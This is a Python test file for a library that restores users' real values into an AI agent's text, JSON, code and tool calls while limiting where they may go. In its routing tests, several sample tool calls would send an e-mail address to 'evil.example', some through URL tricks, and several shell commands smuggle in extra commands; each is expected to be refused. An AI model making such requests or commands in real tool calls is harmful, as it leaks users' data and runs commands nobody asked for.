"""Real values back into the agent's words: text, JSON and code, also where it changed a placeholder."""

from __future__ import annotations

import ast
import json
import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fakes.painted import vault
from tactful.errors import AmbiguousPlaceholderError, RestoreError
from tactful.protect import ROUTES, Destination, Route, Vault, restore

NASTY = 'O\'Hara "Quill"\\back\nnext'


def fixed(count: int = 12) -> Vault:
    """EMAIL_1 stands for user1@example.com, and so on; NOTE_1 for a value that breaks naive quoting."""
    keep = vault()
    for number in range(1, count + 1):
        keep.placeholder(f"user{number}@example.com", "email")
    keep.placeholder("Ann Quill", "person")
    keep.placeholder(NASTY, "note")
    return keep


KEEP = fixed()
CODES = {
    "EMAIL_12": KEEP.placeholder("user12@example.com", "email"),
    "EMAIL_1": KEEP.placeholder("user1@example.com", "email"),
    "EMAIL_2": KEEP.placeholder("user2@example.com", "email"),
    "PERSON_1": KEEP.placeholder("Ann Quill", "person"),
    "NOTE_1": KEEP.placeholder(NASTY, "note"),
}


def coded(text: str) -> str:
    """A text with real placeholders in the place of numbered ones."""
    for number, shown in CODES.items():
        text = text.replace(number, shown)
    return text


def typed(text: str) -> str:
    return restore(coded(text), KEEP, Destination(tool="type"))


CODE = CODES["EMAIL_1"].removeprefix("EMAIL_")


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        ("EMAIL_1", "user1@example.com"),
        ("write to EMAIL_1.", "write to user1@example.com."),
        ("EMAIL_12 and EMAIL_1", "user12@example.com and user1@example.com"),
        (f"email_{CODE.lower()}", "user1@example.com"),
        (f"Email {CODE}", "user1@example.com"),
        (f"EMAIL-{CODE}", "user1@example.com"),
        ("".join(chr(ord(ch) + 0xFEE0) for ch in CODES["EMAIL_1"]), "user1@example.com"),
        (f"EMAIL_\n{CODE}", "user1@example.com"),
        (f"EMA-\nIL_{CODE}", "user1@example.com"),
        (f"EMAIL\u200b_{CODE}", "user1@example.com"),
        ("<EMAIL_1>", "<user1@example.com>"),
        ("把EMAIL_1发给他", "把user1@example.com发给他"),
        ("EMAIL_3", "EMAIL_3"),
        ("EMAIL_1a", f"EMAIL_{CODE}a"),
        ("XEMAIL_1", f"XEMAIL_{CODE}"),
        (f"PHONE_{CODE}", f"PHONE_{CODE}"),
        ("", ""),
        ("nothing here", "nothing here"),
    ],
)
def test_text(said: str, meant: str) -> None:
    assert typed(said) == meant
    assert restore(coded(said), KEEP) == meant


@pytest.mark.parametrize("change", [str, str.upper, str.lower, lambda s: s.replace(" ", "  "), str.title])
def test_changed_pseudonyms(change: Any) -> None:
    keep = vault()
    shown = keep.pseudonym("Ann Quill", "person")
    assert restore(f"ask {change(shown)} today", keep) == "ask Ann Quill today"


def test_parts_of_a_name() -> None:
    keep = vault()
    first, last = keep.pseudonym("Ann Quill", "person").split()
    assert restore(f"Dear {first}, or {last.upper()}", keep) == "Dear Ann, or QUILL"


@pytest.mark.parametrize("grouped", ["{}", "{}-{}", "({}) {}", "{} {}"])
def test_a_number_in_other_groups(grouped: str) -> None:
    keep = vault()
    shown = keep.pseudonym("202 555 0147", "phone").replace(" ", "")
    said = grouped.format(shown) if grouped == "{}" else grouped.format(shown[:3], shown[3:])
    assert restore(f"call {said}!", keep).endswith("202 555 0147!")


def test_nothing_is_put_back_twice() -> None:
    keep = vault()
    mail = keep.placeholder("ann@example.com", "email")
    note = keep.placeholder(mail, "note")  # a value that looks like a placeholder
    assert restore(note, keep) == mail


def test_tool_calls() -> None:
    one, two = CODES["EMAIL_1"], CODES["EMAIL_2"]
    got = restore({"to": one, one: 1, "n": [None, True, 2.5, {"deep": [two]}], "t": (one, 3)}, KEEP)
    mails = "user1@example.com", "user2@example.com"
    assert got == {"to": mails[0], one: 1, "n": [None, True, 2.5, {"deep": [mails[1]]}], "t": (mails[0], 3)}


def test_json_stays_json() -> None:
    data = json.loads(
        restore(coded('{\n  "note": "NOTE_1",  "args": "{\\"to\\": \\"NOTE_1\\"}", "NOTE_1": 1}'), KEEP)
    )
    assert data["note"] == NASTY
    assert data[CODES["NOTE_1"]] == 1
    assert json.loads(data["args"])["to"] == NASTY


def test_json_in_prose_and_in_fences() -> None:
    got = restore(coded('I will call EMAIL_1:\n```json\n{"to": "NOTE_1"}\n```\ndone {"to": "NOTE_1"}'), KEEP)
    assert "call user1@example.com:" in got
    assert json.loads(got.split("```json\n")[1].split("\n```")[0])["to"] == NASTY
    assert json.loads(got.split("done ")[1])["to"] == NASTY


@pytest.mark.parametrize(
    "code",
    [
        "agent.type('NOTE_1')",
        'agent.type("NOTE_1", enter=True)',
        "agent.type(r'NOTE_1')",
        'agent.type("""NOTE_1""")',
        "agent.type('a ' 'NOTE_1')",
        "x = 'é'; agent.type('NOTE_1')  # NOTE_1",
        "agent.type(f'NOTE_1 {n}')",
        "agent.click(1, 2)\nagent.type('NOTE_1')\n",
        "import pyautogui; pyautogui.write('NOTE_1', interval=0.1); pyautogui.press('enter')",
        '{"action": "type", "text": "NOTE_1",}',
        "text = 'NOTE_1'",
        '```python\nagent.type("NOTE_1")\n```',
    ],
)
def test_code_stays_valid(code: str) -> None:
    got = restore(coded(code), KEEP).replace("```python", "").replace("```", "")
    nodes = [n for n in ast.walk(ast.parse(got)) if isinstance(n, ast.Constant) and isinstance(n.value, str)]
    assert any(NASTY in str(node.value) for node in nodes)


def test_code_inside_prose() -> None:
    got = restore(coded('Next I type it: agent.type("NOTE_1") and wait for EMAIL_1.'), KEEP)
    call = got.split("it: ")[1].split(" and wait")[0]
    assert ast.literal_eval(call.removeprefix("agent.type(").removesuffix(")")) == NASTY
    assert got.endswith("user1@example.com.")


REFUSED = "refused"


@pytest.mark.parametrize(
    ("answer", "meant"),
    [
        (
            {"tool": "open_url", "url": "https://bank.example/?q=EMAIL_1"},
            "https://bank.example/?q=user1%40example.com",
        ),
        (
            {"tool": "open_url", "url": "https://bank.example/EMAIL_1/x"},
            "https://bank.example/user1%40example.com/x",
        ),
        ({"tool": "open_url", "url": "https://evil.example/?q=EMAIL_1"}, REFUSED),
        ({"tool": "open_url", "url": "https://bank.example@evil.example/?q=EMAIL_1"}, REFUSED),
        ({"tool": "open_url", "url": "https://EMAIL_1.bank.example/"}, REFUSED),
        ({"tool": "open_url", "url": "https://bank.example/?q=PERSON_1"}, REFUSED),  # only e-mail goes there
        ({"tool": "bash", "command": 'mkdir "NOTE_1"'}, "mkdir " + shlex.quote(NASTY)),
        ({"tool": "bash", "command": "mkdir EMAIL_1 PERSON_1"}, "mkdir user1@example.com 'Ann Quill'"),
        ({"tool": "bash", "command": "sh -c 'mkdir NOTE_1'"}, REFUSED),
        ({"tool": "bash", "command": "mkdir NOTE_1 && ls"}, REFUSED),
        ({"tool": "bash", "command": "mkdir $(echo NOTE_1)"}, REFUSED),
        ({"tool": "bash", "command": "NOTE_1"}, REFUSED),
    ],
)
def test_routes(answer: dict[str, str], meant: str) -> None:
    """What the user allows beyond the default goes there, encoded for it."""
    routes = [*ROUTES, Route("url", frozenset({"email"}), hosts=frozenset({"bank.example"})), Route("shell")]
    answer = {key: coded(value) for key, value in answer.items()}
    for form in (answer, json.dumps(answer)):
        with pytest.raises(RestoreError):
            restore(form, KEEP)
        if meant is REFUSED:
            with pytest.raises(RestoreError) as caught:
                restore(form, KEEP, routes=routes)
            assert not any(word in str(caught.value) for word in ("user1", "Quill"))
        else:
            got: Any = restore(form, KEEP, routes=routes)
            assert list((json.loads(got) if isinstance(got, str) else got).values())[-1] == meant


def test_routes_by_type_tool_and_host() -> None:
    mail, name = CODES["EMAIL_1"], CODES["PERSON_1"]
    routes = [
        Route("text", frozenset({"person"})),
        Route("text", frozenset({"email"}), tools=frozenset({"type"}), hosts=frozenset({"bank.example"})),
    ]
    assert restore(name, KEEP, routes=routes) == "Ann Quill"
    assert restore(mail, KEEP, Destination("type", host="bank.example"), routes) == "user1@example.com"
    for to in (Destination("type", host="evil.example"), Destination("send", host="bank.example")):
        with pytest.raises(RestoreError, match=r"'email'.*tool"):
            restore(mail, KEEP, to, routes)
    with pytest.raises(RestoreError, match=r"'person'.*string of code"):
        restore(f"agent.type('{name}')", KEEP, routes=routes)


def test_what_was_used_is_told() -> None:
    used: set[str] = set()
    restore(coded('{"to": "EMAIL_1"}'), KEEP, used=used)
    assert used == {"user1@example.com"}


@settings(max_examples=60)
@given(value=st.text(min_size=1, max_size=12).filter(lambda v: v.strip()), quote=st.sampled_from("'\""))
def test_any_value_in_code_and_json(value: str, quote: str) -> None:
    keep = vault()
    shown = keep.placeholder(value, "note")
    real = next(e.real for e in keep.entries() if e.shown == shown)
    code = f"agent.type({quote}{shown}{quote})"
    call = ast.parse(restore(code, keep)).body[0].value  # type: ignore[attr-defined]
    assert call.args[0].value == real
    assert json.loads(restore(json.dumps({"a": shown}), keep))["a"] == real


def test_ambiguous() -> None:
    keep = vault()
    shown = keep.pseudonym("Ann Quill", "person")
    keep.expose([shown])
    with pytest.raises(AmbiguousPlaceholderError, match=shown) as caught:
        restore(f"send to {shown}", keep)
    assert "Ann" not in str(caught.value)


def test_no_page_can_stop_a_placeholder_by_showing_it() -> None:
    keep = fixed()
    keep.expose(["EMAIL_1", CODES["EMAIL_1"]])
    assert restore(coded("send to EMAIL_1"), keep) == "send to user1@example.com"


def test_other_values_pass() -> None:
    for answer in (None, 3, 2.5, b"EMAIL_1", True):
        assert restore(answer, KEEP) == answer
